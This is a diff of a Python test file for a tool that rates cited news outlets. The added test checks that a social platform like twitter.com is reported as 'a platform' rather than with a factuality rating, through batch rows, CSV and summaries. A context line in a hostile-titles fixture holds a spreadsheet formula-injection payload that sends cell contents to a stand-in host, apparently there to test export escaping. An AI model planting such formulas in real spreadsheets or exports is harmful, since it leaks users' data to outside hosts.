@@ -15,6 +15,7 @@ from veracity.batch import BatchJob, InputSpec, read_results, run_batch, summari
 from veracity.batch.row import FLAT_COLUMNS
 from veracity.cli import app
 from veracity.errors import InputError
+from veracity.report.schema import PLATFORM_WORDS
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.example/"&A1,"click")',
@@ -383,3 +384,38 @@ def test_the_csv_signals_column_names_kinds_as_reports_do_and_reads_back() -> No
     ]
     older = BatchRow.from_flat({**cells, "signals": "outlet_citation 0.85: Fox"}).top_signals
     assert [(s.kind, s.quote) for s in older] == [("outlet_citation", "Fox")]
+
+
+def test_a_cited_platform_row_says_platform_not_its_rating_and_reads_back(tmp_path: Path) -> None:
+    """Probe s48 O2, left by fix2: the reports say "a platform: a post is as reliable as whoever
+    posted it" for X, but a batch row's outlets column still printed "factuality low"."""
+    from veracity.batch.analysis import analyse_record
+    from veracity.batch.readers import InputRecord
+    from veracity.batch.row import BatchRow, OutletBrief
+    from veracity.batch.summary import rating_text
+
+    text = (
+        "The team's coach said on Sunday that the injured quarterback would miss the game. "
+        "The league confirmed the decision in a post: https://twitter.com/NFL/status/1065846425 "
+        "and the club said it would appeal. " * 3
+    )
+    row = analyse_record(InputRecord(index=0, id="x", text=text), "fast")
+    cited = [o for o in row.outlets if o.domain == "twitter.com"]
+    assert cited and cited[0].platform, row.outlets
+    line = [line for line in str(row.flat()["outlets"]).split("\n") if "twitter.com" in line]
+    assert line == [f"cited: {cited[0].outlet} (twitter.com) - {PLATFORM_WORDS}"]
+    assert row.record()["outlets"][0]["platform"] is True
+    back = BatchRow.from_flat(row.flat())
+    assert [(o.outlet, o.platform) for o in back.outlets] == [(cited[0].outlet, True)]
+    # an outlet that is no platform keeps its rating in the line, and a row is written
+    # without "platform" where no outlet is one; an older file's lines read back as before
+    old = BatchRow(index=1, outlets=[OutletBrief(outlet="Reuters", domain="reuters.com")])
+    assert "platform" not in old.record()["outlets"][0]
+    flat = old.flat()
+    assert flat["outlets"] == "cited: Reuters (reuters.com) - factuality unknown, bias unknown"
+    assert BatchRow.from_flat(flat).outlets == old.outlets
+    # the summary (read from CSV too) names it a platform, not "low / center"
+    out = tmp_path / "out.csv"
+    writers.write_results(out, [row.record()])
+    summary = summarize_results(read_results(out))
+    assert rating_text(summary.outlet_ratings[cited[0].outlet], " / ") == "a platform"
